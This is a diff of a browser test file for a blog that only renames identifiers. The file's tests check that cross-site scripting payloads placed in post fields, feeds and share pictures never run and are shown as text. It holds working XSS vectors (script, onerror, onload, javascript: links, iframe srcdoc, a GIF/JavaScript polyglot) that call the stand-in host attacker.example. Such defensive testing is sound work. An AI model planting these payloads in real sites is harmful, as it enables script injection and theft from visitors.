@@ -8,25 +8,25 @@ import { parsePost } from '../../../scripts/seed/blog/post-file.ts';
 import { createSharePicture } from '../../../scripts/seed/blog/share-pictures.ts';
 import { limits } from '../../../shared/model/limits.ts';
 import { test } from '../../support/browser.ts';
-import { listFrom, newPost } from '../../support/posts.ts';
+import { createListPath, newPost } from '../../support/posts.ts';
 import { deletePost } from '../../support/stored-items/content.ts';
 
 /** The script of each attack: it reports that it ran, and requests a picture from the attacker's site. */
-const attackScript = (from: string) =>
-  `attacked('${from}');new Image().src='https://attacker.example/${from}'`;
-const markup = (from: string) =>
-  `</title></script><script>${attackScript(from)}</script>"'><img src=x onerror="${attackScript(from)}"><svg onload="${attackScript(from)}">`;
+const attackScript = (source: string) =>
+  `attacked('${source}');new Image().src='https://attacker.example/${source}'`;
+const attackMarkup = (source: string) =>
+  `</title></script><script>${attackScript(source)}</script>"'><img src=x onerror="${attackScript(source)}"><svg onload="${attackScript(source)}">`;
 
-const content = [
-  markup('text'),
+const attackContent = [
+  attackMarkup('text'),
   `[link](javascript:${attackScript('link')})`,
   `[data](data:text/html,<script>${attackScript('data')}</script>)`,
   `![" onerror="${attackScript('picture')}](/share/site.png)`,
   '![polyglot](https://pictures.example.com/polyglot.gif)',
-  `| ${markup('table')} |\n| --- |\n| ${markup('cell')} |`,
-  `\`\`\`html\n${markup('code')}\n\`\`\``,
-  `## ${markup('heading')}`,
-  `- ${markup('item')}`,
+  `| ${attackMarkup('table')} |\n| --- |\n| ${attackMarkup('cell')} |`,
+  `\`\`\`html\n${attackMarkup('code')}\n\`\`\``,
+  `## ${attackMarkup('heading')}`,
+  `- ${attackMarkup('item')}`,
   `<style>@import "https://attacker.example/style"</style><meta http-equiv="refresh" content="0;https://attacker.example/">`,
   `<iframe srcdoc="<script>parent.${attackScript('frame')}</script>"></iframe><base href="https://attacker.example/">`,
 ].join('\n\n');
@@ -38,30 +38,30 @@ const activeSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="12" height="6"
  * comment of the code.
  */
 const polyglotCode = `*/=1;${attackScript('polyglot')}//`;
-const polyglot = Buffer.concat([
+const polyglotFile = Buffer.concat([
   Buffer.from('GIF89a/*', 'latin1'),
   Buffer.from('01000000002c00000000010001008000000000ffffff020244010021fe', 'hex'),
   Buffer.from([polyglotCode.length]),
   Buffer.from(`${polyglotCode}\0;`),
 ]);
 
-const day = '2018-03-05';
+const publishedDate = '2018-03-05';
 const post = newPost({
   slug: `attack-${randomUUID()}`,
-  published_date: day,
-  title: markup('title').slice(0, limits.subject),
-  excerpt: markup('excerpt').slice(0, limits.excerpt),
-  author: markup('author').slice(0, limits.name),
+  published_date: publishedDate,
+  title: attackMarkup('title').slice(0, limits.subject),
+  excerpt: attackMarkup('excerpt').slice(0, limits.excerpt),
+  author: attackMarkup('author').slice(0, limits.name),
   category: `</script><script>${attackScript('category')}</script>`.slice(0, limits.name),
   read_time: '<img src=x onerror=attacked(1)>',
-  seo_title: markup('seo title').slice(0, limits.subject),
-  seo_description: markup('seo description').slice(0, limits.excerpt),
+  seo_title: attackMarkup('seo title').slice(0, limits.subject),
+  seo_description: attackMarkup('seo description').slice(0, limits.excerpt),
   image_url: 'https://pictures.example.com/active.svg',
-  content,
+  content: attackContent,
 });
 const longestPost = newPost({
-  published_date: day,
-  content: `${markup('long')}\n\n`.repeat(1_000).slice(0, limits.post),
+  published_date: publishedDate,
+  content: `${attackMarkup('long')}\n\n`.repeat(1_000).slice(0, limits.post),
 });
 
 beforeAll(async () => {
@@ -75,33 +75,33 @@ afterAll(async () => {
 
 /** Records effects of an attack: calls, dialogs, requests, and scripts that the security policy blocked. */
 async function recordAttackEffects(page: Page): Promise<string[]> {
-  const acts: string[] = [];
-  await page.exposeFunction('attacked', (from: string) => void acts.push(`ran: ${from}`));
+  const effects: string[] = [];
+  await page.exposeFunction('attacked', (source: string) => void effects.push(`ran: ${source}`));
   await page.addInitScript(() => {
     addEventListener('securitypolicyviolation', ({ violatedDirective, sourceFile }) =>
       console.error(`blocked by the policy: ${violatedDirective} ${sourceFile}`),
     );
   });
   page.on('dialog', (dialog) => {
-    acts.push(`dialog: ${dialog.message()}`);
+    effects.push(`dialog: ${dialog.message()}`);
     void dialog.dismiss();
   });
   page.on('request', (request) => {
     const { protocol, hostname } = new URL(request.url());
     if (protocol.startsWith('http') && !['127.0.0.1', 'pictures.example.com'].includes(hostname))
-      acts.push(`request: ${request.url()}`);
+      effects.push(`request: ${request.url()}`);
   });
   await page.route('https://pictures.example.com/active.svg', (route) =>
     route.fulfill({ contentType: 'image/svg+xml', body: activeSvg }),
   );
   await page.route('https://pictures.example.com/polyglot.gif', (route) =>
-    route.fulfill({ contentType: 'image/gif', body: polyglot }),
+    route.fulfill({ contentType: 'image/gif', body: polyglotFile }),
   );
-  return acts;
+  return effects;
 }
 
 /** Loads lazy content, hovers over and focuses every element, and waits for the effects. */
-const touch = (page: Page) =>
+const triggerHandlers = (page: Page) =>
   page.evaluate(async () => {
     for (const element of document.querySelectorAll<HTMLElement>('*')) {
       element.scrollIntoView();
@@ -118,15 +118,15 @@ const touch = (page: Page) =>
 
 test('attacks in every field of a post do not run in its page, and are shown as text', async ({ visit }) => {
   const { page } = await visit();
-  const acts = await recordAttackEffects(page);
+  const effects = await recordAttackEffects(page);
   await page.goto(`/blog/${post.slug}`);
-  expect(await touch(page)).toEqual({ handlers: [], elements: 0 });
+  expect(await triggerHandlers(page)).toEqual({ handlers: [], elements: 0 });
   await expect.poll(() => page.locator('h1').textContent()).toBe(post.title);
   expect(await page.title()).toContain(post.seo_title);
   await expect.poll(() => page.locator('.post-head .lead').textContent()).toBe(post.excerpt);
   const text = await page.locator('main').innerText();
-  for (const from of ['text', 'table', 'cell', 'code', 'heading', 'item'])
-    expect(text).toContain(attackScript(from));
+  for (const source of ['text', 'table', 'cell', 'code', 'heading', 'item'])
+    expect(text).toContain(attackScript(source));
   for (const shownField of [post.author, post.category, post.read_time]) expect(text).toContain(shownField);
   await expect.poll(() => page.locator('a[href^="javascript:" i], a[href^="data:" i]').count()).toBe(0);
   for (const name of ['active.svg', 'polyglot.gif'])
@@ -134,18 +134,18 @@ test('attacks in every field of a post do not run in its page, and are shown as 
       await page.locator(`img[src$="${name}"]`).evaluate((image: HTMLImageElement) => image.naturalWidth),
       name,
     ).toBeGreaterThan(0);
-  expect(acts).toEqual([]);
+  expect(effects).toEqual([]);
 });
 
 test('attacks do not run in the list of posts, also when Load More appends them', async ({ visit }) => {
   const { page } = await visit();
-  const acts = await recordAttackEffects(page);
-  await page.goto(listFrom('2018-03-06'));
-  expect(await touch(page)).toEqual({ handlers: [], elements: 0 });
+  const effects = await recordAttackEffects(page);
+  await page.goto(createListPath('2018-03-06'));
+  expect(await triggerHandlers(page)).toEqual({ handlers: [], elements: 0 });
   const card = page.locator('.post-card', { has: page.locator(`[href="/blog/${post.slug}"]`) });
   await expect.poll(() => card.locator('h2').textContent()).toBe(post.title);
   await expect.poll(() => card.locator('.post-excerpt').textContent()).toBe(post.excerpt);
-  expect(acts).toEqual([]);
+  expect(effects).toEqual([]);
 });
 
 test(
@@ -153,16 +153,16 @@ test(
   { tags: ['nightly'] },
   async ({ visit }) => {
     const { page } = await visit();
-    const acts = await recordAttackEffects(page);
+    const effects = await recordAttackEffects(page);
     await page.goto(`/blog/${longestPost.slug}`);
-    expect(await touch(page)).toEqual({ handlers: [], elements: 0 });
+    expect(await triggerHandlers(page)).toEqual({ handlers: [], elements: 0 });
     await expect.poll(() => page.locator('main').innerText()).toContain(attackScript('long'));
-    expect(acts).toEqual([]);
+    expect(effects).toEqual([]);
   },
 );
 
 test('ten megabytes of Markdown are not published', () => {
-  const longContent = `${content}\n\n`.repeat(Math.ceil(10_000_000 / content.length));
+  const longContent = `${attackContent}\n\n`.repeat(Math.ceil(10_000_000 / attackContent.length));
   expect(() => parsePost('a-post.md', `---\ntitle: A\n---\n${longContent}`)).toThrow(
     `content is longer than ${limits.post} characters`,
   );
@@ -181,7 +181,7 @@ test(
   { tags: ['nightly'] },
   async ({ visit }) => {
     const { page } = await visit();
-    const acts = await recordAttackEffects(page);
+    const effects = await recordAttackEffects(page);
     const feed = rss([post], inject('cloud').site);
     await page.route('**/feed.xml', (route) => route.fulfill({ contentType: 'application/xml', body: feed }));
     await page.goto('/feed.xml');
@@ -195,7 +195,7 @@ test(
     await page.goto('/reader.html');
     await page.locator('main').evaluate((main, html) => (main.innerHTML = html), item[0]?.description ?? '');
     await expect.poll(() => page.locator('main').textContent()).toBe(post.excerpt);
-    expect(acts).toEqual([]);
+    expect(effects).toEqual([]);
   },
 );
 
@@ -204,7 +204,7 @@ test(
   { tags: ['nightly'] },
   async ({ visit }) => {
     const { page } = await visit();
-    const acts = await recordAttackEffects(page);
+    const effects = await recordAttackEffects(page);
     const { svg } = createSharePicture(post);
     await page.route('**/share.svg', (route) => route.fulfill({ contentType: 'image/svg+xml', body: svg }));
     await page.goto('/share.svg');
@@ -212,7 +212,7 @@ test(
     await expect
       .poll(() => page.locator('script, image, foreignObject, a, [onload], [onerror]').count())
       .toBe(0);
-    expect(acts).toEqual([]);
+    expect(effects).toEqual([]);
   },
 );
 
@@ -222,7 +222,7 @@ test('the detection on these pages notices each kind of attack', async ({ visit 
   await page.route('**/open.html', (route) =>
     route.fulfill({
       contentType: 'text/html',
-      body: `<h1>${markup('control')}</h1><script>alert(1)</script>`,
+      body: `<h1>${attackMarkup('control')}</h1><script>alert(1)</script>`,
     }),
   );
   await page.goto('/open.html');
